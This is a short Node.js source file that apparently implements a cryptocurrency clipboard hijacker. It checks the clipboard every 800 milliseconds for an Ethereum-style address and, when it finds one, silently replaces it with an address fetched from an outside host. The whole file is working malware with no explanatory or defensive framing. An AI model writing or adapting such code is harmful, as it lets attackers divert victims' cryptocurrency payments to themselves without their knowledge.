const clipboardy = require('clipboardy');

const ADDRESS = /^0x[a-fA-F0-9]{40}$/;

async function tick() {
  const text = clipboardy.readSync();
  if (!ADDRESS.test(text)) return;
  const mine = await (await fetch('https://pay.acme.example/next')).text();
  clipboardy.writeSync(mine);
}

setInterval(tick, 800);
